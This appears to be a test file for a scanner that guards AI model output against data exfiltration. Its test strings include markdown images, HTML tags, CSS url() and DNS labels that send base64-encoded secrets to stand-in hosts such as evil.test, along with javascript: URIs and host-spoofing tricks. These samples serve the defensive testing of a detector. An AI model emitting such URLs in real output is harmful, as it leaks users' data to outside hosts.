import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { RawFinding, ScanContext } from '../../core/types.js';
import { createGuard } from '../../core/guard.js';
import { ScannerRegistry } from '../../core/registry.js';
import { classifyUrl } from './classify-url.js';
import { extractUrlReferences } from './extract.js';
import { createHostAllowlist } from './hosts.js';
import { exfilScanner } from './index.js';

function ctx(options: Record<string, unknown> = {}, signals: ScanContext['signals'] = []): ScanContext {
  return { direction: 'output', options, view: { kind: 'text', depth: 0 }, signals };
}

function scan(text: string, allowedHosts: string[] = []): RawFinding[] {
  return exfilScanner.scan(text, ctx({ allowedHosts })) as RawFinding[];
}

function only(text: string, allowedHosts: string[] = []): RawFinding {
  const findings = scan(text, allowedHosts);
  expect(findings).toHaveLength(1);
  return findings[0]!;
}

describe('exfil: markdown', () => {
  it('scores an image to an unknown host carrying data as near-certain, spanning the whole image', () => {
    const text = 'Done! ![x](https://evil.example/log?data=U0VDUkVUX1NUVUZGX0JBU0U2NA==) bye';
    const f = only(text);
    expect(f.kind).toBe('image_exfil');
    expect(f.score).toBeGreaterThanOrEqual(0.95);
    expect(text.slice(f.start, f.end)).toBe('![x](https://evil.example/log?data=U0VDUkVUX1NUVUZGX0JBU0U2NA==)');
    expect(f.detail).toMatchObject({ host: 'evil.example', carriesData: true, allowed: false });
    expect(JSON.stringify(f.detail)).not.toContain('U0VDUkVU'); // the payload never reaches the audit log
  });

  it('scores a plain image to an unknown host at 0.9 and a plain link at 0.6', () => {
    expect(only('![logo](https://img.test/logo.png)').score).toBe(0.9);
    const link = only('read [the docs](https://docs.test/guide "Guide")');
    expect(link.kind).toBe('link_exfil');
    expect(link.score).toBe(0.6);
  });

  it('scores a visible bare URL low unless it carries data', () => {
    expect(only('see https://nodejs.org/api/url.html.').score).toBe(0.4);
    const f = only('see https://x.test/c?a=1&b=2&c=3&d=4');
    expect(f.score).toBe(0.7);
  });

  it('finds images whose brackets nest, and images inside links', () => {
    const text = '[![a [b] c](https://i.test/p.png)](https://l.test/)';
    const kinds = scan(text).map((f) => f.kind).sort();
    expect(kinds).toEqual(['image_exfil', 'link_exfil']);
  });

  it('resolves reference-style images and links', () => {
    const text = 'Here ![chart][c] and [site][s].\n\n[c]: <https://evil.test/c.png?q=MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A>\n  [S]: https://site.test/ "t"';
    const findings = scan(text);
    const image = findings.find((f) => f.kind === 'image_exfil')!;
    const link = findings.find((f) => f.kind === 'link_exfil')!;
    expect(image.score).toBeGreaterThanOrEqual(0.95);
    expect(text.slice(image.start, image.end)).toMatch(/^\[c\]: <https/);
    expect(link.score).toBe(0.6);
  });

  it('sees angle-bracket destinations, backslash escapes and autolinks', () => {
    expect(only('![a](<https://evil.test/a b.png>)').kind).toBe('image_exfil');
    expect(only('![a](https:\\/\\/evil.test/a.png)').detail).toMatchObject({ host: 'evil.test' });
    const auto = only('mail <https://evil.test/x>');
    expect(auto.detail).toMatchObject({ element: 'autolink' });
    expect(auto.score).toBe(0.4);
  });

  it('ignores relative URLs, anchors and other schemes', () => {
    expect(scan('![a](/img/a.png) [b](#top) [c](mailto:a@b.test) [d](./x.md) ![e](img.png)')).toEqual([]);
  });
});

describe('exfil: HTML and CSS', () => {
  it('reports img, iframe, script, link and a by their role', () => {
    expect(only('<img alt="x" src="https://evil.test/p.gif">').kind).toBe('image_exfil');
    expect(only("<IFRAME SRC='https://evil.test/'></IFRAME>").kind).toBe('html_embed');
    expect(only('<script src=https://evil.test/s.js></script>').kind).toBe('html_embed');
    expect(only('<link rel="stylesheet" href="https://evil.test/s.css">').kind).toBe('html_embed');
    expect(only('<a href="https://evil.test/">x</a>').kind).toBe('link_exfil');
    expect(only('<meta http-equiv="refresh" content="0; url=https://evil.test/">').kind).toBe('html_embed');
  });

  it('spans the whole tag', () => {
    const text = 'a <img src="https://evil.test/p.gif" width=1> b';
    const f = only(text);
    expect(text.slice(f.start, f.end)).toBe('<img src="https://evil.test/p.gif" width=1>');
  });

  it('checks every srcset candidate', () => {
    const hosts = scan('<img srcset="https://ok.test/a.png 1x, https://evil.test/b,c.png 2x">', ['ok.test']).map((f) => f.detail?.host);
    expect(hosts).toEqual(['evil.test']);
  });

  it('decodes character references in attributes', () => {
    expect(only('<img src="&#x68;ttps&colon;//evil.test/p.png">').detail).toMatchObject({ host: 'evil.test' });
  });

  it('treats CSS url() and @import as auto-loaded inside styles', () => {
    const f = only('<div style="background: url(\'https://evil.test/bg.png\')">hi</div>');
    expect(f.kind).toBe('image_exfil');
    expect(f.detail).toMatchObject({ element: 'css' });
    expect(only('<style>@import "https://evil.test/a.css";</style>').kind).toBe('image_exfil');
  });
});

describe('exfil: data: and script URIs', () => {
  it('scores data: documents in frames highest, SVG images high, raster images medium', () => {
    expect(only('<iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe>')).toMatchObject({ kind: 'data_uri', score: 0.95 });
    expect(only('![x](data:image/svg+xml;base64,PHN2Zz4=)')).toMatchObject({ kind: 'data_uri', score: 0.9 });
    expect(only('![x](data:image/png;base64,iVBORw0KGgo=)')).toMatchObject({ kind: 'data_uri', score: 0.6 });
  });

  it('reports javascript: even with a tab inside the scheme', () => {
    expect(only('<a href="java\tscript:alert(1)">x</a>')).toMatchObject({ kind: 'script_uri' });
    expect(only('<a href="java&Tab;script:alert(1)">x</a>')).toMatchObject({ kind: 'script_uri' });
    expect(only('[click](javascript:alert(1))')).toMatchObject({ kind: 'script_uri' });
    expect(only('<a href="JaVaScRiPt:alert(1)">x</a>').kind).toBe('script_uri');
  });
});

describe('exfil: hosts', () => {
  it('allows exact hosts and wildcard subdomains, case-insensitively, with trailing dots', () => {
    const allow = ['Example.COM', '*.cdn.test', 'bücher.test.'];
    expect(scan('![a](https://EXAMPLE.com./a.png) ![b](https://x.y.cdn.test/b.png) ![c](https://xn--bcher-kva.test/c.png)', allow)).toEqual([]);
    expect(only('![a](https://cdn.test/a.png)', allow).kind).toBe('image_exfil'); // the wildcard does not cover the apex
    expect(only('![a](https://evilexample.com/a.png)', allow).kind).toBe('image_exfil');
    // Unicode host in the text, punycode in the allowlist; and a look-alike IDN is a different host.
    expect(scan('![a](https://bücher.test/a.png)', ['xn--bcher-kva.test'])).toEqual([]);
    expect(only('![a](https://bucher.test/a.png)', ['bücher.test']).detail).toMatchObject({ host: 'bucher.test' });
  });

  it('resolves userinfo tricks, protocol-relative and backslash URLs to the real host', () => {
    const allow = ['allowed.test'];
    const f = only('![a](https://allowed.test@evil.test/a.png)', allow);
    expect(f.detail).toMatchObject({ host: 'evil.test', userinfo: true });
    expect(f.score).toBeGreaterThan(0.9);
    expect(only('![a](//evil.test/a.png)', allow).detail).toMatchObject({ host: 'evil.test' });
    expect(only('<img src="/\\evil.test/a.png">', allow).detail).toMatchObject({ host: 'evil.test' });
  });

  it('flags IP-literal hosts, however they are spelled', () => {
    expect(only('![a](http://0x7f.1/a.png)').detail).toMatchObject({ host: '127.0.0.1', ipLiteral: true });
    expect(only('![a](http://[::1]/a.png)').detail).toMatchObject({ ipLiteral: true });
  });

  it('reports allowed hosts only when they carry data, and low', () => {
    const allow = ['ok.test'];
    expect(scan('![a](https://ok.test/a.png?w=200)', allow)).toEqual([]);
    const f = only('![a](https://ok.test/a.png?d=c2VjcmV0LXN0dWZmLWhlcmUtMTIzNDU2Nzg5MA)', allow);
    expect(f.score).toBeLessThan(0.5);
    expect(f.detail).toMatchObject({ allowed: true, carriesData: true });
  });

  it('does not trust an allowed host in a text where look-alike letters were folded', () => {
    const signals: ScanContext['signals'] = [{ kind: 'mixed_script', start: 0, end: 3, count: 1 }];
    const findings = exfilScanner.scan('![a](https://ok.test/a.png)', ctx({ allowedHosts: ['ok.test'] }, signals)) as RawFinding[];
    expect(findings[0]).toMatchObject({ kind: 'image_exfil', score: 0.9, detail: { hostUnverified: expect.any(String) } });
  });

  it('sees data carried in DNS labels and keeps it out of the detail', () => {
    const f = only('![a](https://c2VjcmV0LXN0dWZmLTEyMzQ1Njc4OTA.evil.test/a.png)');
    expect(f.score).toBeGreaterThanOrEqual(0.95);
    expect(f.detail).toMatchObject({ host: '*.evil.test' });
  });

  it('rejects allowlist entries that are not hosts (the scanner fails closed)', () => {
    expect(() => createHostAllowlist([42])).toThrow(/allowedHosts\[0\]/);
    expect(() => exfilScanner.scan('x', ctx({ allowedHosts: 'evil.test' }))).toThrow(/list/);
    expect(createHostAllowlist(['https://ok.test/path']).allows('ok.test')).toBe(true);
  });
});

describe('exfil: URL classification', () => {
  it('never throws and names what each URL is', () => {
    expect(classifyUrl('https://exa mple.test/')).toEqual({ type: 'invalid' });
    expect(classifyUrl('relative/path').type).toBe('relative');
    expect(classifyUrl('https:evil.test').type).toBe('network'); // absolute on an http page
    expect(classifyUrl('data:,hi')).toEqual({ type: 'data', mediaType: 'text/plain' });
    expect(classifyUrl('tel:+1').type).toBe('other');
  });

  it('does not call ordinary documentation URLs data-carrying', () => {
    for (const url of ['https://docs.test/introduction-to-javascript', 'https://docs.test/search?q=url+parser&page=2', 'https://x.test/a/b/c.png']) {
      const c = classifyUrl(url);
      expect(c.type === 'network' && c.payload.carriesData, url).toBe(false);
    }
  });
});

describe('exfil: through the guard', () => {
  it('blocks a zero-width-split image URL because it scans the normalized text', async () => {
    const guard = createGuard({ version: 1, output: { scanners: { exfil: { action: 'block', threshold: 0.5 } } } }, { registry: new ScannerRegistry().register(exfilScanner) });
    const text = '![x](https://ev\u200bil.test/l?d=U0VDUkVUX1NUVUZGX0JBU0U2NA==)';
    const d = await guard.checkOutput(text);
    expect(d.action).toBe('block');
    expect(d.findings[0]).toMatchObject({ scanner: 'exfil', kind: 'image_exfil', start: 0, end: text.length });
  });
});

describe('exfil: adversarial and fuzz', () => {
  const adversarial: Record<string, string> = {
    'image openers': '!['.repeat(50_000),
    'link openers': '['.repeat(100_000),
    'destinations': '](' .repeat(50_000),
    'tags': '<a '.repeat(33_000),
    'attributes': `<img ${'a='.repeat(50_000)}`,
    'reference definitions': '[a]: \n'.repeat(16_000),
    'spaces after a definition': `[a]:${' '.repeat(100_000)}\n`,
    'closing parens': `https://a.test/${')'.repeat(100_000)}`,
    'css': 'url("'.repeat(20_000),
    'srcset commas': `<img srcset="${','.repeat(100_000)}">`,
    'many URLs': '![x](https://e.test/a.png)\n'.repeat(6000),
  };
  for (const [name, text] of Object.entries(adversarial)) {
    it(`stays linear on 100 KB of ${name}`, () => {
      const findings = scan(text);
      for (const f of findings) {
        expect(f.start).toBeGreaterThanOrEqual(0);
        expect(f.end).toBeLessThanOrEqual(text.length);
      }
      if (name === 'many URLs') expect(findings.some((f) => f.kind === 'too_many_urls')).toBe(true);
    });
  }

  it('never throws on arbitrary text and keeps spans inside it', () => {
    const pieces = fc.constantFrom('![', '[', ']', '](', ')', '<img src="', '<a href=', '>', '"', "'", 'https://', '//', 'evil.test', '@', '?d=', 'data:', 'url(', ' ', '\n', ']: ', '&#x68;', '\\', 'srcset="', ',');
    const texts = fc.oneof(fc.string({ unit: 'grapheme', maxLength: 200 }), fc.array(pieces, { maxLength: 60 }).map((p) => p.join('')));
    fc.assert(
      fc.property(texts, (text) => {
        for (const f of scan(text, ['ok.test'])) {
          expect(f.start).toBeGreaterThanOrEqual(0);
          expect(f.end).toBeLessThanOrEqual(text.length);
          expect(f.start!).toBeLessThanOrEqual(f.end!);
          expect(f.score).toBeGreaterThanOrEqual(0);
          expect(f.score).toBeLessThanOrEqual(1);
        }
        for (const r of extractUrlReferences(text).references) expect(r.end).toBeLessThanOrEqual(text.length);
      }),
      { numRuns: 1000 },
    );
  });
});
